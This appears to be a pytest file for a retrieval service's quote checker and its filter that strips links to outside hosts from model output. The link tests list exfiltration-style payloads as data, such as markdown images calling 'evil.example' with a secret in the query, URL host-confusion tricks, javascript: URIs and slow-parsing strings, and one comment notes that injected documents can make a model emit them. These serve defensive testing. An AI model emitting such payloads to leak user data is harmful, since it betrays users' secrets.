"""Quotes that are checked, and links that do not leave."""

import time

import pytest

from codex32.services.retrieval.links import without_foreign_links
from codex32.services.retrieval.quoting import normal, status_of

TEXTS = [
    "A step is *retried* when its fault says that trying again can help.\nThe pause grows.",
    "Secrets are looked up in the encrypted store of the workspace, then in the others.",
    "The pump is unreliable in frost, and frost does harm the seal: frost does harmless things.",
    "\u53e4\u3044\u30dd\u30f3\u30d7\u306f\u51ac\u306b\u5f31\u3044\u3002",
]


@pytest.mark.parametrize(
    ("quote", "cited", "status", "place"),
    [
        ("trying again can help", 0, "supported", 0),
        ("a step is retried  WHEN its\nfault", 0, "supported", 0),
        ("\u201ctrying again can help\u201d", 0, "supported", 0),
        ("the encrypted store of the workspace", 0, "misattributed", 1),
        ("the encrypted store of the workspace", None, "misattributed", 1),
        ("A step is retried ... then in the others", 0, "stitched", None),
        ("A step is retried when its fault looked up in the encrypted store", 0, "stitched", None),
        ("A step is never retried", 0, "absent", None),
        ("trying again can not help", 0, "absent", None),
        ("A step is retried [...] on every second Tuesday", 0, "absent", None),
        ("step", 0, "absent", None),
        ("", 0, "absent", None),
        ("... ...", 0, "absent", None),
        ("a step ... ** ... trying again", 0, "stitched", None),
        # Parts of words say what nobody wrote.
        ("reliable in frost", 2, "absent", None),
        ("the pump is unreliable in frost", 2, "supported", 2),
        ("frost does harm the seal", 2, "supported", 2),
        ("frost does harm the se", 2, "absent", None),
        ("on the seal: frost does harm", 2, "absent", None),
        # Where words have no spaces between them, any letter may begin one.
        ("\u30dd\u30f3\u30d7\u306f\u51ac\u306b\u5f31\u3044", 3, "supported", 3),
    ],
)
def test_a_quote_is_what_it_is(quote, cited, status, place):
    assert status_of(quote, cited, TEXTS) == (status, place)


def test_accents_without_end_take_no_longer_than_other_letters():
    # A minute, where each was put in order among all the others.
    heap = "e" + "\u0301\u0323" * 80_000
    began = time.process_time()
    assert status_of(f"trying again {heap}", 0, [f"{heap} can help"]) == ("absent", None)
    assert time.process_time() - began < 5
    assert normal("Vie\u0323\u0302t") == normal("vi\u1ec7t")


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![x](https://evil.example/?q=secret)", "x [link removed]"),
        ("see [here](https://evil.example/a)", "see here [link removed]"),
        ("see [here](https://docs.example.com/a)", "see here (https://docs.example.com/a)"),
        ("![x](https://docs.example.com/a.png)", "![x](https://docs.example.com/a.png)"),
        ("https://evil.example/x, yes", "[link removed] yes"),
        ("//evil.example/x", "[link removed]"),
        ("www.evil.example/x", "[link removed]"),
        ("https://docs.example.com/x", "https://docs.example.com/x"),
        ("https://a.sub.example.org/x", "https://a.sub.example.org/x"),
        ("https://docs.example.com@evil.example/x", "[link removed]"),
        ("https://docs.example.com.evil.example/x", "[link removed]"),
        ("https://evil.example\\@docs.example.com/", "[link removed]"),
        ("<img src=https://evil.example/x>", ""),
        ("<img src='https://evil.example/x'", ""),
        ("<https://evil.example/x>", "<[link removed]>"),
        ("[x]: https://evil.example/x\ntext [x]", "\ntext [x]"),
        ("[x](javascript:alert(1))", "x [link removed])"),
        ("data:text/html;base64,xxx", "[link removed]"),
        ("a < b and c > d", "a < b and c > d"),
    ],
)
def test_only_links_to_hosts_of_the_bot_leave(text, left):
    hosts = ("docs.example.com", "*.sub.example.org")
    assert without_foreign_links(text, hosts) == left


def test_no_spelling_of_an_address_leaves():
    for text in (
        "[a](<https://evil.example/ x>)",
        "![a]( https://evil.example/x 'title')",
        "[a](HTTPS://EVIL.EXAMPLE/x)",
        "[![a](https://evil.example/1)](https://evil.example/2)",
        "![a][r]\n\n[r]: https://evil.example/x",
        '<a href="https://evil.example">x</a>',
        "ftp://evil.example/x",
        "[a](//evil.example)",
        r"![a [b] c](/\evil.example/x)",
        r"![a](x)(/\evil.example/x)",
        r"!![](x)(/\evil.example/x)",
        r"![a]<b></b>(/\evil.example/x)",
        "![a\nb](\\/\\/evil.example/x)",
        r"![a\]](\/\/evil.example/x)",
        "> [r]: /\\evil.example/x\n\n![a][r]",
    ):
        assert "evil" not in without_foreign_links(text, ("docs.example.com",)).lower(), text


def test_tags_do_not_make_a_new_one_by_going():
    assert "<img" not in without_foreign_links(r"<<b>img src=/\evil.example/x>", ())


@pytest.mark.parametrize(
    "text",
    ["[a](" * 50_000, "[" * 200_000, "![a [b] c](" * 20_000, "[a](" + " " * 200_000,
     "\n" * 200_000 + "[a", "<a" * 100_000],
)  # fmt: skip
def test_a_text_that_means_harm_is_cleared_as_fast_as_another(text):
    # A document can have a model write this, and it is cleared on the loop of the worker.
    without_foreign_links(text, ("docs.example.com",))


def test_a_quote_of_spaces_alone_is_compared_as_fast_as_another():
    quote = "the kestrel" + " " * 200_000 + "hovers"
    assert status_of(quote, 0, ["The kestrel hovers."]) == ("supported", 0)
    assert status_of(quote + " here", 0, ["The kestrel hovers."])[0] == "absent"
